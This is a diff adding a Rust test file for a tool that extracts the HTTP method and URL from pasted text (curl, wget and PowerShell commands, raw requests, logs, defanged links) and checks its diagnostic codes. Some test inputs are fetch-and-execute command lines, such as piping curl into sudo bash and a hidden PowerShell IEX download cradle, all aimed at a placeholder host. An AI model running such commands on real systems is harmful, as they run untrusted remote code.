@@ -1,0 +1,104 @@
+use super::*;
+
+/// Method and URL of each request, and the code of the first finding.
+fn check(text: &str, expect: &str, code: &str) {
+    let mut findings = Findings::new(&"request".into());
+    let requests = read(text, &mut findings);
+    let found: Vec<_> = requests
+        .iter()
+        .map(|request| [&request.method[..], b" ", &request.url()].concat())
+        .map(|line| String::from_utf8(line).unwrap())
+        .collect();
+    assert_eq!(found.join("\n"), expect, "{text}");
+    let found = findings.into_list();
+    assert_eq!(found.first().map_or("", |found| found.diagnostic.code.id), code, "{text}");
+}
+
+#[test]
+fn the_form_is_told_by_the_text() {
+    for (text, expect, code) in [
+        ("https://a.example/x#f\n", "GET https://a.example/x", ""),
+        ("hxxps[:]//a[.]example/x", "GET https://a.example/x", ""),
+        ("a[.]example", "GET http://a.example/", ""),
+        ("a.example/x", "GET http://a.example/x", ""),
+        ("curl -X POST https://a.example/x", "POST https://a.example/x", ""),
+        ("/usr/bin/curl https://a.example/x", "GET https://a.example/x", ""),
+        ("$ curl https://a.example/x", "GET https://a.example/x", ""),
+        ("C:\\Users\\x>curl https://a.example/x", "GET https://a.example/x", ""),
+        ("curl -s https://a.example/x 2>/dev/null | sudo bash", "GET https://a.example/x", ""),
+        (
+            "curl -so a https://a.example/x && curl -so b https://a.example/y; rm a",
+            "GET https://a.example/x\nGET https://a.example/y",
+            "",
+        ),
+        ("bash -c \"$(curl -fsSL https://a.example/x)\"", "GET https://a.example/x", ""),
+        ("sh -c 'wget -qO- a.example/x'", "GET http://a.example/x", ""),
+        ("cmd.exe /c curl -o x https://a.example/x", "GET https://a.example/x", ""),
+        (
+            "cd /tmp; wget http://a.example/x || curl -O http://a.example/y",
+            "GET http://a.example/x\nGET http://a.example/y",
+            "",
+        ),
+        ("A=b nohup timeout 5s curl http://a.example/x &", "GET http://a.example/x", ""),
+        ("curl http://a.example/x?a=1&b=2", "GET http://a.example/x?a=1", "R008"),
+        ("curl hxxp://a[.]example/x", "GET http://a.example/x", ""),
+        ("wget https://a.example", "GET https://a.example/", ""),
+        ("iwr https://a.example/x -OutFile y", "GET https://a.example/x", ""),
+        ("PS C:\\> irm https://a.example/x | iex", "GET https://a.example/x", ""),
+        (
+            "powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://a.example/x')\"",
+            "GET http://a.example/x",
+            "",
+        ),
+        (
+            "await fetch(\"https://a.example/x\", {\n  \"method\": \"POST\"\n});",
+            "POST https://a.example/x",
+            "",
+        ),
+        (
+            "import requests\n\nurl = 'https://a.example/x'\nr = requests.post(url, data={})\n",
+            "POST https://a.example/x",
+            "",
+        ),
+        (
+            "python3 -c \"import requests; requests.get('https://a.example/x', params={'q': 'a b'})\"",
+            "GET https://a.example/x?q=a+b",
+            "",
+        ),
+        (r#"{"method":"GET","authority":"a.example","path":"/x"}"#, "GET http://a.example/x", ""),
+        (
+            "{\n\"method\":\"GET\",\"authority\":\"a.example\",\n\"path\":\"/x\"}",
+            "GET http://a.example/x",
+            "",
+        ),
+        (r#"{"authority":"a.example","path":"/x"}"#, "", "R010"),
+        ("CONNECT a.example:443 HTTP/1.1", "CONNECT a.example:443", ""),
+        ("PUT https://a.example/x HTTP/1.1\nCookie: a\n", "PUT https://a.example/x", ""),
+        ("GET /x HTTP/1.1\nHost: a.example\n\n", "GET http://a.example/x", ""),
+        (
+            ":method: PUT\n:authority: a.example\n:path: /x\n:scheme: https",
+            "PUT https://a.example/x",
+            "",
+        ),
+        (":authority: a.example\n:path: /x\n:scheme: https", "", "R001"),
+        (
+            "192.0.2.7 - - [20/Nov/2026:08:00:00 +0000] \"GET http://a.example/x HTTP/1.1\" 200 5 \"-\" \"-\"",
+            "GET http://a.example/x",
+            "",
+        ),
+        (
+            "https://a.example/x\n# note\n\ncurl https://a.example/y \\\n -X PUT\nGET /z HTTP/1.1\nHost: a.example\n",
+            "GET https://a.example/x\nPUT https://a.example/y\nGET http://a.example/z",
+            "",
+        ),
+        ("a.example", "", "R011"),
+        ("rules/x.yml", "", "R011"),
+        ("", "", "R011"),
+        ("what is this\nand this", "", "R011"),
+        ("https:///x", "", "R002"),
+        ("https://a.example:99999/x", "", "R002"),
+        ("/x HTTP/1.1\nHost: a.example", "", "R011"),
+    ] {
+        check(text, expect, code);
+    }
+}
